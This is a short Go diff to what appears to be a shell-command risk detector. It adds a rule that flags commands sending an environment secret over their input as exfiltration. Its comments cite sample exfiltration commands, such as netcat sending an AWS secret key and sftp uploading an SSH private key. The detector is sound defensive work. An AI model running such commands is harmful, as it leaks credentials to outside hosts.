@@ -246,6 +246,9 @@ func (w *walker) simple(name string, words []word, assigns []string, c scope, d 
 		// "sftp host <<< 'put ~/.ssh/id_rsa'": a file transfer's script.
 		if f, ok := mentionsCredential(c.stdin.script); ok {
 			addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send the credential file " + f, Token: f})
+		} else if secretRef(c.stdin.script) {
+			// "nc host 80 <<< $AWS_SECRET_ACCESS_KEY"
+			addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends a secret from the environment given on its input: " + clip(strings.TrimSpace(c.stdin.script), 60), Token: name})
 		}
 	}
 	if (c.stdin.kind == stdinFile || c.stdin.kind == stdinPipe) && sqlShells[name] && !sqlInline(cmd.Args) {
